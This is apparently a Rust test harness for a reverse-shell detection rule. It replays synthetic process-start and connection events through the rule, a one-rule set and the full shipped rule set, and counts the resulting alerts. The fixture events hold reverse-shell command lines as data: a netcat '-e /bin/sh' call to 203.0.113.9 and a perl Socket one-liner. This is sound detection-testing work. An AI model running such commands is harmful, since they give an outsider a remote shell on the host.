//! The first rule: alone, as a set of one and in the set of all shipped rules, which needs slots; over struct, enum and slot events.

use core::ffi::c_int;
use core::hint::black_box;
use core::net::{IpAddr, Ipv4Addr};

use detector_rules::linux::execution::{
    ReverseShellViaSuspiciousChildProcess as Rule, ReverseShellViaSuspiciousChildProcessMatcher as RuleMatcher,
};
use detector_rules::{Shipped, ShippedMatcher};
use detectors::{Alert, Event, RuleSet, Scalar, Timestamp};

use crate::record::with_slots;

/// Each round every matcher sees a process that then connects: the rule as struct, enum and slots, the set of one as struct and enum,
/// the set of all as slots, once more through the function that is compiled with it.
pub(crate) const ALERTS: c_int = 7 * ROUNDS as c_int;
const ROUNDS: u64 = 16;

/// Events of any kind: the category is known at run time.
#[derive(Event)]
struct Flat<'a> {
    #[event(field = "@timestamp")]
    at: Option<Timestamp>,
    #[event(field = "event.category")]
    category: &'a [&'a str],
    #[event(field = "event.type")]
    types: &'a [&'a str],
    #[event(field = "event.action")]
    action: &'a str,
    #[event(field = "host.id")]
    host_id: &'a str,
    #[event(field = "host.os.type")]
    os: &'a str,
    #[event(field = "process.entity_id")]
    entity_id: Option<&'a str>,
    #[event(field = "process.name")]
    name: &'a str,
    #[event(field = "process.args")]
    args: &'a [&'a str],
    #[event(field = "process.args_count")]
    args_count: i64,
    #[event(field = "process.parent.name")]
    parent: &'a str,
    #[event(field = "destination.ip")]
    destination: Option<IpAddr>,
    #[event(handle)]
    number: u64,
}

#[derive(Event)]
#[event(category = "process", constant("host.os.type" = "linux", "event.type" = "start"))]
struct Exec<'a> {
    #[event(field = "@timestamp")]
    at: Timestamp,
    #[event(field = "event.action")]
    action: &'a str,
    #[event(field = "host.id")]
    host_id: u32,
    // A keyword that the agent has as a number.
    #[event(field = "process.entity_id")]
    entity_id: u64,
    #[event(field = "process.name")]
    name: &'a str,
    #[event(field = "process.args")]
    args: &'a [&'a str],
    #[event(field = "process.args_count")]
    args_count: u16,
    #[event(field = "process.parent.name")]
    parent: Option<&'a str>,
    #[event(handle)]
    number: u64,
}

#[derive(Event)]
#[event(category = "network", constant("host.os.type" = "linux", "event.type" = "start"))]
struct Connect<'a> {
    #[event(field = "@timestamp")]
    at: Timestamp,
    #[event(field = "event.action")]
    action: &'a str,
    #[event(field = "host.id")]
    host_id: u32,
    #[event(field = "process.entity_id")]
    entity_id: u64,
    #[event(field = "process.name")]
    name: &'a str,
    #[event(field = "destination.ip")]
    destination: Ipv4Addr,
    #[event(handle)]
    number: u64,
}

#[derive(Event)]
enum AgentEvent<'a> {
    Exec(Exec<'a>),
    Connect(Connect<'a>),
    Tick,
}

/// The first rule as a set.
#[derive(RuleSet)]
#[rule_set(rules = ["../../../rules/linux/execution/reverse_shell_via_suspicious_child_process.yml"])]
struct SetOfOne;

pub(crate) fn run() -> c_int {
    let mut alerts = 0;
    let mut sink = |alert: &Alert<'_>| alerts += c_int::from(black_box(alert).events.len() == 2 && alert.join_keys.len() == 2);
    let mut rule = Rule::matcher_with_seed::<64>(black_box([1, 2]));
    let mut set = SetOfOne::matcher_with_seed::<64>(black_box([9, 10]));
    let mut shipped = Shipped::matcher_with_seed::<64>(black_box([3, 4]));
    for round in 0..black_box(ROUNDS) {
        let time = Timestamp(black_box(round as i64 * 10));
        for stage in black_box([0, 1, 2]) {
            let event = enum_event(stage, time, round);
            rule.observe(&event, &mut sink);
            set.observe(&event, &mut sink);
            let flat = struct_event(stage, time, round);
            rule.observe(&flat, &mut sink);
            set.observe(&flat, &mut sink);
            judge_slots(&flat, &mut rule, &mut shipped, &mut sink);
        }
        rule.advance(time, |_| {});
        set.advance(time, |_| {});
        shipped.advance(time, |_| {});
        black_box((rule.counters(), rule.tally(), rule.oldest_live_handle()));
        black_box((shipped.counters(), shipped.counters_of(black_box(0)), shipped.oldest_live_handle()));
        black_box(shipped.set_enabled(black_box(0), black_box(true)));
    }
    rule.reseed(black_box([5, 6]));
    set.reseed(black_box([11, 12]));
    shipped.reseed(black_box([7, 8]));
    alerts
}

fn enum_event<'a>(stage: u32, at: Timestamp, number: u64) -> AgentEvent<'a> {
    let (host_id, entity_id) = black_box((7, number));
    match stage {
        0 => {
            let args = black_box(&["perl", "-e", "use Socket; exec('sh')"][..]);
            let (name, action, parent) = black_box(("perl", "exec", Some("sh")));
            AgentEvent::Exec(Exec { at, action, host_id, entity_id, name, args, args_count: black_box(3), parent, number })
        }
        1 => {
            let (name, action, destination) = black_box(("perl", "connection_attempted", Ipv4Addr::new(203, 0, 113, 9)));
            AgentEvent::Connect(Connect { at, action, host_id, entity_id, name, destination, number })
        }
        _ => AgentEvent::Tick,
    }
}

fn struct_event<'a>(stage: u32, at: Timestamp, number: u64) -> Flat<'a> {
    let (category, action) = match stage {
        0 => (&["process"][..], "fork"),
        1 => (&["host", "network"][..], "connection_accepted"),
        _ => (&["file"][..], "creation"),
    };
    black_box(Flat {
        at: Some(at),
        category,
        types: &["info", "start"],
        action,
        host_id: "h",
        os: "linux",
        entity_id: Some("e"),
        name: "NC",
        args: &["nc", "-e", "/bin/sh", "203.0.113.9"],
        args_count: 4,
        parent: "Python3",
        destination: Some(IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9))),
        number,
    })
}

/// The same event as slots. Of another host, so that its sequences are not those of the struct.
fn judge_slots(flat: &Flat<'_>, rule: &mut RuleMatcher<64>, shipped: &mut ShippedMatcher<64>, sink: &mut impl FnMut(&Alert<'_>)) {
    let mut argument = flat.args.iter();
    let args = [(); 4].map(|()| Scalar::Str(argument.next().copied().unwrap_or_default()));
    let mut category = [Scalar::Str("host"); 2];
    for (value, name) in category.iter_mut().zip(flat.category) {
        *value = Scalar::Str(name);
    }
    for host in ["slots", "slots of the function"] {
        let fields = [
            ("@timestamp", &[Scalar::Time(flat.at.unwrap_or_default())][..]),
            ("event.category", &category),
            ("event.type", &[Scalar::Str("start")]),
            ("event.action", &[Scalar::Str(flat.action)]),
            ("host.id", &[Scalar::Str(host)]),
            ("host.os.type", &[Scalar::Str("linux")]),
            ("process.entity_id", &[Scalar::Int(1)]),
            ("process.name", &[Scalar::Str(flat.name)]),
            ("process.args", &args),
            ("process.args_count", &[Scalar::Unsigned(4)]),
            ("process.parent.name", &[Scalar::Str(flat.parent)]),
            ("destination.ip", &[Scalar::Ip(flat.destination.unwrap_or(IpAddr::V4(Ipv4Addr::LOCALHOST)))]),
        ];
        if host == "slots" {
            with_slots::<Rule, _>(flat.number, black_box(&fields), |event| rule.observe(event, &mut *sink));
            with_slots::<Shipped, _>(flat.number, black_box(&fields), |event| shipped.observe(event, &mut *sink));
        } else {
            with_slots::<Shipped, _>(flat.number, black_box(&fields), |event| detector_rules::observe(shipped, event, sink));
        }
    }
}
